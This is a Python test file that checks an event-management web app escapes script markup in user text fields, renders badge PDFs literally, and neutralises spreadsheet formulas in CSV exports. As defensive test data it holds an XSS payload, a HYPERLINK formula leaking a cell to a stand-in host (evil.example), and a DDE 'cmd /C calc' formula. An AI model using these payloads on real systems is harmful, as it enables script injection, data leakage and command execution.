"""HTML, script and spreadsheet formulas typed into text fields stay text, wherever they are shown.

Every text field that organisers, exhibitors or attendees fill in (attendee name, organisation
and job title; exhibitor name and description; talk title and abstract; stage name; lead notes;
announcements) gets markup that would run if a page showed it unescaped. Each page that shows
the field must show it escaped, and no page may contain the live markup. Badge PDFs must draw
such text literally (reportlab reads ``<b>`` or ``<font>`` as markup in a Paragraph), and the CSV
exports must neutralise whatever a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
import secrets
from pathlib import Path

import httpx

from messe.expo.models import Exhibitor
from messe.people.domain.accounts import issue_personal_link_token
from messe.people.models import Attendee
from messe.programme.models import Talk
from tests.badges.pdfcheck import page_texts, squash
from tests.scanning.conftest import badge_payload
from tests.web.conftest import EVENT

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile(field: str) -> str:
    """Markup that runs if shown unescaped, even inside an attribute; ``field`` says where it was typed."""
    return f'"><script>alert({field})</script><img src=x onerror=alert({field})>'


def escaped(field: str) -> str:
    return f"&lt;script&gt;alert({field})&lt;/script&gt;"


LIVE_MARKUP = ("<script>alert(", "<img src=x")

# field -> the pages that show it: (path under /messe13, who looks)
SHOWN_ON: dict[str, list[tuple[str, str]]] = {
    "attendee_name": [("admin/attendees", "organiser"), ("admin/attendees/{attendee}", "organiser"),
                      ("leads/{lead}", "exhibitor"), ("me/data", "attendee")],
    "attendee_organisation": [("admin/attendees", "organiser"), ("leads/{lead}", "exhibitor")],
    "attendee_job_title": [("admin/attendees/{attendee}", "organiser"), ("leads/{lead}", "exhibitor")],
    "exhibitor_name": [("exhibitors", "anonymous"), ("admin/exhibitors", "organiser"), ("exhibitors/map", "anonymous"),
                       ("exhibitors/{exhibitor}", "anonymous")],
    "exhibitor_description": [("exhibitors", "anonymous"), ("admin/exhibitors/{exhibitor}", "organiser"),
                              ("exhibitors/{exhibitor}", "anonymous")],
    "talk_title": [("", "anonymous"), ("talks/{talk}", "anonymous"), ("changes", "anonymous"),
                   ("changes.atom", "anonymous"), ("admin/programme", "organiser"),
                   ("admin/programme/talks/{talk}", "organiser")],
    "talk_abstract": [("talks/{talk}", "anonymous")],
    "stage_name": [("", "anonymous"), ("admin/stages", "organiser")],
    "lead_notes": [("leads/{lead}", "exhibitor")],
    "announcement_title": [("changes", "anonymous"), ("admin/announcements", "organiser")],
    "announcement_body": [("changes", "anonymous")],
}
# Further pages that show some of these fields: none may carry live markup.
ALSO_CHECKED = [("programme?view=stage", "anonymous"), ("me/schedule", "attendee"), ("leads/", "exhibitor"),
                ("checkin/", "door"), ("admin/", "organiser"), ("admin/dashboard", "organiser"),
                ("admin/audit", "organiser")]


class FairApi:
    """The in-process fair through its API, as its users would type into it."""

    def __init__(self, client: httpx.AsyncClient, callers: dict[str, dict[str, str]], event) -> None:
        self.client = client
        self.callers = callers
        self.event = event

    async def call(self, method: str, path: str, who: str, body: dict | None = None) -> dict:
        response = await self.client.request(method, f"{EVENT}/api/{path}", headers=self.callers[who], json=body)
        assert response.status_code in (200, 201), (path, response.text)
        return response.json()

    async def scan(self, attendee_id: int, **values: object) -> dict:
        """Exhibitor A scans the attendee's badge."""
        visitor = await Attendee.filter(id=attendee_id).select_related("organisation").get()
        return await self.call("POST", "leads", "exhibitor_a", {"payload": badge_payload(visitor),
                                                                "client_id": secrets.token_hex(8), **values})

    async def stand_a(self) -> Exhibitor:
        return await Exhibitor.filter(event=self.event).order_by("stand").first()

    async def sign_in(self, attendee_id: int) -> dict[str, str]:
        """The cookie of the attendee's own session."""
        self.client.cookies.clear()
        token = await issue_personal_link_token(await Attendee.get(id=attendee_id))
        await self.client.get(f"{EVENT}/link/{token}")
        cookie = "; ".join(f"{k}={v}" for k, v in self.client.cookies.items())
        self.client.cookies.clear()
        return {"Cookie": cookie}


async def _fill_every_field(fair: FairApi) -> dict[str, int]:
    """Hostile text in every field; the ids of the records it went into."""
    attendee = await fair.call("POST", "attendees", "organiser", {
        "name": hostile("attendee_name"), "organisation": hostile("attendee_organisation"),
        "job_title": hostile("attendee_job_title"), "consent_share_contact": True})
    stand = await fair.stand_a()
    await fair.call("PATCH", f"exhibitors/{stand.id}", "organiser", {
        "name": hostile("exhibitor_name"), "description": hostile("exhibitor_description")})
    talk = await Talk.filter(event=fair.event, published__isnull=False).order_by("starts_at").first()
    await fair.call("PATCH", f"talks/{talk.id}", "organiser", {"title": hostile("talk_title"),
                                                                "abstract": hostile("talk_abstract")})
    await fair.call("PATCH", f"stages/{talk.stage_id}", "organiser", {"name": hostile("stage_name")})
    await fair.call("POST", "announcements", "organiser", {"title": hostile("announcement_title"),
                                                           "body": hostile("announcement_body")})
    lead = await fair.scan(attendee["id"], notes=hostile("lead_notes"))
    return {"attendee": attendee["id"], "exhibitor": stand.id, "talk": talk.id, "lead": lead["id"]}


async def test_markup_in_text_fields_is_escaped_on_every_page_that_shows_it(client, callers, fair):
    app_fair = FairApi(client, callers, fair)
    ids = await _fill_every_field(app_fair)
    viewers = {"anonymous": callers["anonymous"], "organiser": callers["organiser"], "door": callers["door"],
               "exhibitor": callers["exhibitor_a"], "attendee": await app_fair.sign_in(ids["attendee"])}
    pages: dict[tuple[str, str], str] = {}
    for path, who in {page for shown in SHOWN_ON.values() for page in shown} | set(ALSO_CHECKED):
        url = f"{EVENT}/{path.format(**ids)}"
        response = await client.get(url, headers={**viewers[who], "Accept": "text/html"})
        assert response.status_code == 200, (url, who, response.status_code)
        pages[path, who] = response.text

    live = [f"{who} {path}: {marker}" for (path, who), text in pages.items() for marker in LIVE_MARKUP
            if marker in text]
    assert not live, "live markup on a page:\n" + "\n".join(live)
    not_shown = [f"{field} on {path} ({who})" for field, shown in SHOWN_ON.items() for path, who in shown
                 if escaped(field) not in pages[path, who]]
    assert not not_shown, "not shown (escaped) where expected:\n" + "\n".join(not_shown)


async def test_markup_in_a_name_is_drawn_literally_on_the_badge(client, callers, fair, tmp_path: Path):
    name, organisation = "<b>Fed</b> & <i>Kursiv</i>", '<font size="90">Stor</font> <img src="x.png"/>'
    attendee = await FairApi(client, callers, fair).call("POST", "attendees", "organiser",
                                                {"name": name, "organisation": organisation})
    response = await client.get(f"{EVENT}/badges/{attendee['id']}.pdf", headers=callers["organiser"])
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    pdf = tmp_path / "badge.pdf"
    pdf.write_bytes(response.content)
    text = squash("".join(page_texts(pdf)))
    assert squash(name) in text and squash(organisation) in text


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


FORMULAS = {"name": '=HYPERLINK("https://evil.example/?"&A1;"Klik")', "organisation": "+1+2",
            "job_title": "Chef;=1+1\n=2+2", "phone": "-2+3", "email": "=1+1@example.dk"}


async def test_formulas_in_the_attendee_export_are_neutralised(client, callers, fair):
    api = FairApi(client, callers, fair)
    await api.call("POST", "attendees", "organiser", {**FORMULAS, "consent_share_contact": True})
    rows = _rows(await client.get(f"{EVENT}/admin/attendees/export.csv", headers=callers["organiser"]))
    header, *body = rows
    assert all(len(row) == len(header) for row in body)  # a ";" or a line break inside a value stays in its cell
    assert _formula_cells(rows) == []
    mine = next(row for row in body if _neutralised(FORMULAS["name"]) in row)
    assert {_neutralised(v) for v in FORMULAS.values()} <= set(mine)


async def test_formulas_in_the_lead_export_are_neutralised(client, callers, fair):
    app_fair = FairApi(client, callers, fair)
    stand = await app_fair.stand_a()
    await app_fair.call("PATCH", f"exhibitors/{stand.id}", "organiser", {"lead_tags": ["@Varm", "Opfølgning"]})
    attendee = await app_fair.call("POST", "attendees", "organiser", {**FORMULAS, "consent_share_contact": True})
    await app_fair.scan(attendee["id"], notes="=cmd|' /C calc'!A0", tags=["@Varm"])
    rows = _rows(await client.get(f"{EVENT}/api/leads/export.csv", headers=callers["exhibitor_a"]))
    header, *body = rows
    assert len(body) == 1 and len(body[0]) == len(header)
    assert _formula_cells(rows) == []
    cells = set(body[0])
    assert {_neutralised(FORMULAS["name"]), "'=cmd|' /C calc'!A0"} <= cells
    assert any(cell.startswith("'@Varm") for cell in cells)
